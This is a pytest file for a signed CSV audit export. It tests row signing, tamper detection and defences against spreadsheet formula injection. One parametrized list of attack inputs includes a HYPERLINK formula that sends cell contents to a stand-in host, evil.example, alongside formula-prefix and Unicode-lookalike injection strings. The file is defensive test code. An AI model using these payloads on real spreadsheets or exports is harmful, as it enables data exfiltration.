"""The table for people: nothing in it runs, and its last row signs the rest."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from approvals_hub.audit import table
from approvals_hub.audit.export import Export
from approvals_hub.audit.filter import Filter
from approvals_hub.core.clock import Clock
from approvals_hub.db.sqlite import SqliteDatabase
from approvals_hub_client import checkpoint
from approvals_hub_client.checkpoint import Checkpoint
from approvals_hub_client.note import NoteError
from approvals_hub_client.tree import EMPTY_ROOT
from tests.unit.audit.log_in_use import ORG, START, Log, event, signer, verifier


@pytest.fixture
async def exported(sqlite_database: SqliteDatabase, tmp_path: Path) -> bytes:
    log = Log(sqlite_database, tmp_path)
    await log.grow(1100)
    return await made(log, Filter())


async def made(log: Log, wanted: Filter) -> bytes:
    export = Export(log.db, Clock(lambda: START), signer, lambda org_id: [verifier(org_id)])
    return b"".join([piece async for piece in export.table(ORG, wanted)])


def cell(action_type: str) -> str:
    """What a spreadsheet reads where an entry holds this text."""
    row = table.rows([(0, msgspec.json.encode({"action_type": action_type}))])
    [cells] = csv.reader(StringIO(row.decode(), newline=""))
    return cells[table.COLUMNS.index("action_type")]


async def test_every_entry_is_a_row_under_the_heading(exported: bytes) -> None:
    rows = list(csv.reader(StringIO(exported.decode(), newline="")))
    assert tuple(rows[0]) == table.COLUMNS
    assert [int(row[0]) for row in rows[1:-1]] == list(range(1100))


async def test_a_row_holds_what_the_entry_holds(exported: bytes) -> None:
    row = list(csv.DictReader(StringIO(exported.decode(), newline="")))[7]
    assert (row["kind"], row["actor_id"], row["decision"], row["detail"]) == (
        "escalation.opened",
        "agt_1",
        "",
        '{"number":7}',
    )


async def test_the_last_row_is_signed_and_counts(exported: bytes) -> None:
    manifest = table.verify(BytesIO(exported), verifier())
    assert (manifest.rows, manifest.size, manifest.query) == (1100, 1100, {})


async def test_a_part_names_its_query_in_the_last_row(sqlite_database: SqliteDatabase, tmp_path: Path) -> None:
    log = Log(sqlite_database, tmp_path)
    await log.record(*map(event, range(30)))
    await log.sealer.seal(ORG)
    manifest = table.verify(BytesIO(await made(log, Filter(agent="agt_1"))), verifier())
    assert (manifest.rows, manifest.query) == (10, {"agent": "agt_1"})


async def test_an_edited_row_is_refused(exported: bytes) -> None:
    with pytest.raises(ValueError, match="not those that were signed"):
        table.verify(BytesIO(exported.replace(b"esc_7", b"esc_8", 1)), verifier())


async def test_a_deleted_row_is_refused(exported: bytes) -> None:
    lines = exported.splitlines(keepends=True)
    with pytest.raises(ValueError, match="not those that were signed"):
        table.verify(BytesIO(b"".join(lines[:5] + lines[6:])), verifier())


async def test_a_table_without_its_last_row_is_refused(exported: bytes) -> None:
    with pytest.raises(ValueError, match="no signed last row"):
        table.verify(BytesIO(exported.partition(b'"manifest"')[0]), verifier())


async def test_something_after_the_last_row_is_refused(exported: bytes) -> None:
    with pytest.raises(ValueError, match="no signed last row"):
        table.verify(BytesIO(exported + b'"more"\r\n'), verifier())


async def test_a_table_signed_by_another_log_is_refused(exported: bytes) -> None:
    with pytest.raises(NoteError, match="not signed by"):
        table.verify(BytesIO(exported), verifier("org_2"))


def test_a_checkpoint_does_not_pass_for_a_last_row() -> None:
    text = checkpoint.sign(Checkpoint(verifier().name, 0, EMPTY_ROOT), signer())
    with pytest.raises(NoteError, match="signed for something else"):
        table.verify(BytesIO(b'"manifest","' + text.encode() + b'"\r\n'), verifier())


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example?x="&A1)',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        " =1",
        "\ufeff=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
    ],
)
def test_a_cell_is_not_run_that_begins_with(attack: str) -> None:
    assert cell(attack).startswith("'")


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_no_text_breaks_out_of_its_cell_or_begins_a_formula(text: str) -> None:
    read = cell(text)
    assert read in {text.replace("\0", "\ufffd"), "'" + text.replace("\0", "\ufffd")}
    assert read.lstrip(" ")[:1] not in set("=+-@\t\r\0")


def test_a_cell_cannot_pass_for_the_last_row() -> None:
    row = table.rows([(0, msgspec.json.encode({"action_type": '\n"manifest","x"'}))])
    assert not any(line.startswith(b'"manifest","') for line in row.split(b"\n"))
